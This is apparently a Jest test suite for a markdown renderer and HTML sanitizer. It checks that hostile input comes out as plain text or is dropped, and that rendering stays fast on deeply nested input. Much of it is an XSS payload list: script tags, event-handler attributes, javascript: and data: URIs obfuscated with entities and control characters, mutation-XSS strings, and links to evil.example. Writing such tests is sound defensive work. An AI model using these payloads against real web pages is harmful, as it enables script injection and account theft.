import { describe, expect, test } from '@jest/globals';
import { platformAllowed, sanitize, webAllowed } from '../../publishing/markdown/sanitize.js';
import { createRenderer } from '../../publishing/renderer.js';
import { attributesIn } from './html.js';

const renderer = createRenderer();
const tags = (html: string): readonly string[] =>
  [...html.matchAll(/<\/?([a-z0-9]+)/gi)].map(([, tag = '']) => tag);

/** What both renderings have beside what a paragraph with a link in it may have. */
const strangersIn = (markdown: string): readonly string[] => {
  const id = '0123456789abcdef0123456789abcdef';
  return [renderer.web(markdown), renderer.platform(markdown, () => `https://mmbiz.qpic.cn/${id}`)].flatMap(
    (html) => [
      ...tags(html).filter((tag) => !/^(p|section|br|blockquote|ul|ol|li|strong|em|a|h[2-6])$/.test(tag)),
      ...attributesIn(html)
        .map(([name, value]) => `${name}=${value}`)
        .filter(
          (attribute) =>
            !/^(rel=|style=|href=https?:\/\/[a-z0-9.-]+\/|href=\/a\/[a-z0-9-]+$)/.test(attribute),
        ),
    ],
  );
};

describe('hostile markup is text, or nothing', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x"onerror="alert(1)">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<body onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<form action="https://evil.example"><input name=q><button>x</button></form>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<textarea></textarea><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<xmp><script>alert(1)</script></xmp>',
    '<p style="background:url(javascript:alert(1))" class="x" id="y">z</p>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<!-- --><script>alert(1)</script> -->',
    '<?php echo 1 ?>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&#x3C;img src=x onerror=alert(1)&#x3E;',
    '\\<script>alert(1)\\</script>',
    '<div\n\n<script>alert(1)</script>\n\n</div>',
    '> <script>\n> alert(1)\n> </script>',
    '- <img src=x onerror=alert(1)>',
    '# <script>alert(1)</script>',
    '**<b onclick=alert(1)>x</b>**',
    '\u0000<script\u0000>alert(1)</script>',
  ])('%j', (markdown) => {
    expect(strangersIn(markdown)).toEqual([]);
  });
});

describe('a link that could run or deceive is its words', () => {
  test.each([
    'javascript:alert(1)',
    'JavaScript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java%73cript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;vascript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'java\\script:alert(1)',
    '\u0001javascript:alert(1)',
    '\u200Bjavascript:alert(1)',
    'jav\u00ADascript:alert(1)',
    'javascript://example.org/%0Aalert(1)',
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml;base64,PHN2Zy8+',
    'data:image/png;base64,AAAA',
    'blob:https://example.org/1',
    'file:///etc/passwd',
    'ftp://example.org/',
    'mailto:a@example.org',
    'tel:12339',
    'weixin://dl/business',
    'about:blank',
    'view-source:https://example.org',
    '//example.org/x',
    '\\\\example.org\\x',
    '/\\example.org',
    '///example.org',
    'https:example.org',
    'https:/example.org',
    'https:///example.org',
    'https:\\\\example.org',
    'https://12339.gov.cn@evil.example/',
    'https://a:b@evil.example/',
    'https://',
    'http://[::1',
    '/report',
    '/a/',
    '/a/../report',
    '/a/xyz/../../report',
    '/a/xyz%2F..',
    '/a/feed',
    '/a/Some_Slug',
    'a/x',
    '#top',
    '?q=1',
    'picture:0123456789abcdef0123456789abcdef',
  ])('%j', (address) => {
    for (const markdown of [
      `[words](<${address}>)`,
      `[words](${address})`,
      `[words][r]\n\n[r]: <${address}>`,
      `[words](<${address}> "title")`,
    ]) {
      expect(renderer.web(markdown)).not.toContain('<a ');
      expect(renderer.platform(markdown, () => null)).not.toContain('<a ');
      expect(renderer.references(markdown).links).toEqual([]);
      expect(strangersIn(markdown)).toEqual([]);
    }
  });

  test.each(['<javascript:alert(1)>', '<data:text/html,x>', '<a@example.org>', '<file:///etc/passwd>'])(
    'the same between angle brackets: %s',
    (markdown) => {
      expect(renderer.web(markdown)).not.toContain('<a ');
    },
  );

  test('the words of a refused link stay, without its signs', () => {
    expect(renderer.web('see [the *words*](javascript:alert(1)) here')).toBe(
      '<p>see the <em>words</em> here</p>',
    );
  });

  test('what makes an attribute end is escaped in it', () => {
    const id = '0123456789abcdef0123456789abcdef';
    const html = renderer.web(`![" onload="alert(1)" x="](picture:${id} "\\"><script>alert(1)</script>")`);
    expect(attributesIn(html).map(([name]) => name)).toEqual(['src', 'alt', 'loading']);
    expect(html).toContain('alt="&quot; onload=&quot;alert(1)&quot; x=&quot;"');
    expect(renderer.web('[a](https://example.org/"onclick="alert(1))')).toContain(
      'href="https://example.org/%22onclick=%22alert(1)"',
    );
    const there = renderer.platform(`![a](picture:${id})`, () => 'https://mmbiz.qpic.cn/"onload="x');
    expect(attributesIn(there).map(([name]) => name)).not.toContain('onload');
  });

  test('an address that runs is refused even where the platform is said to have it', () => {
    const told = createRenderer({ onPlatform: () => 'javascript:alert(1)' });
    expect(told.platform('[a](/a/boxes)', () => null)).not.toContain('javascript');
    expect(renderer.platform(`![a](picture:${'0'.repeat(32)})`, () => 'data:image/svg+xml,x')).not.toContain(
      'data:',
    );
  });
});

test('the second wall stands without the first', () => {
  const id = '0'.repeat(32);
  const hostile =
    '<script>x</script><style>x</style><div class="a" id="b" onclick="c"><p style="color:red" class="x" onclick="y">z</p></div>' +
    `<svg onload="x"><a href="javascript:x" target="_blank">l</a></svg><a href="//evil.example" rel="me">m</a>` +
    `<img src="https://evil.example/x.png" alt="a" /><img src="/a/pictures/${id}/web" alt="b" onerror="x" srcset="x" /><td class="right evil">t</td>`;
  expect(sanitize(hostile, webAllowed)).toBe(
    `<p>z</p><a>l</a><a rel>m</a><img src="/a/pictures/${id}/web" alt="b" /><td class="right">t</td>`,
  );
  expect(sanitize(hostile, platformAllowed)).toBe(
    `<p style="color:red">z</p><a>l</a><a>m</a><img src="https://evil.example/x.png" alt="a" /><img src="/a/pictures/${id}/web" alt="b" /><td>t</td>`,
  );
});

test('characters that turn the order of others do not get in by entities either', () => {
  const turned = /[\u202A-\u202E\u2066-\u2069\u200B]/;
  for (const markdown of [
    'a\u202Eb',
    'a&#x202E;b',
    '`a\u2066b`',
    '```\na\u202Eb\n```',
    '![a\u202Eb](x)',
    '| \u200B |\n|-|',
  ])
    for (const out of [
      renderer.web(markdown),
      renderer.platform(markdown, () => null),
      renderer.plain(markdown),
    ])
      expect(out).not.toMatch(turned);
});

describe('the work is bounded', () => {
  const megabyte = (part: string): string => part.repeat(Math.ceil(1_000_000 / part.length));
  test.each([
    ['10,000 nested quotes', `${'>'.repeat(10_000)} end\n`.repeat(100)],
    ['10,000 nested lists', `${'- '.repeat(10_000)}end\n`.repeat(50)],
    [
      '10,000 nested lists on lines of their own',
      Array.from({ length: 1_000 }, (_, i) => `${' '.repeat(2 * i)}- end`).join('\n'),
    ],
    ['quotes and lists in turn', megabyte('> - ')],
    ['10,000 nested brackets', `${'['.repeat(10_000)}end${'](x)'.repeat(10_000)}`],
    ['open brackets', megabyte('[')],
    ['open pictures', megabyte('![')],
    ['open links', megabyte('[a](')],
    ['open emphasis', megabyte('**a *b ')],
    ['backticks of every length', Array.from({ length: 1_400 }, (_, i) => '`'.repeat(i + 1)).join(' ')],
    ['angles', megabyte('<a ')],
    ['entities', megabyte('&amp;')],
    ['backslashes', megabyte('\\')],
    ['headings', megabyte('# a\n')],
    ['short lines', megabyte('a\n')],
    ['a wide table', `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n${'|b\n'.repeat(2_000)}`],
    ['definitions', megabyte('[a]: b\n')],
    ['ten megabytes of words', 'words '.repeat(1_700_000)],
  ])('%s', (_, markdown) => {
    const begun = performance.now();
    renderer.web(markdown);
    // A second by itself; ten for a machine that is busy with other things. Without bounds some take minutes.
    expect(performance.now() - begun).toBeLessThan(10_000);
  });

  test('what is nested beyond reason keeps its words', () => {
    expect(renderer.plain(`${'>'.repeat(5_000)} deep words`)).toBe('deep words');
    expect(renderer.plain(`${'- '.repeat(5_000)}deep words`)).toMatch(/^(· )+deep words$/);
    expect(
      renderer.plain(Array.from({ length: 100 }, (_, i) => `${'  '.repeat(i)}- item ${i}`).join('\n')),
    ).toMatch(/^· item 0\n.*\n +· item 50\n.*\n +· item 99$/s);
    expect(renderer.web('* * * * * * * * * * * * * * * * * *')).toBe('<hr />');
    expect(renderer.plain(`${'['.repeat(30_000)} words`)).toMatch(/\[ words$/);
  });

  test('what is nested as people do is left as it is', () => {
    const nested = '- a\n    - b\n        - c\n            > d';
    expect(renderer.web(nested)).toBe(
      '<ul><li>a<ul><li>b<ul><li>c<blockquote><p>d</p></blockquote></li></ul></li></ul></li></ul>',
    );
  });
});
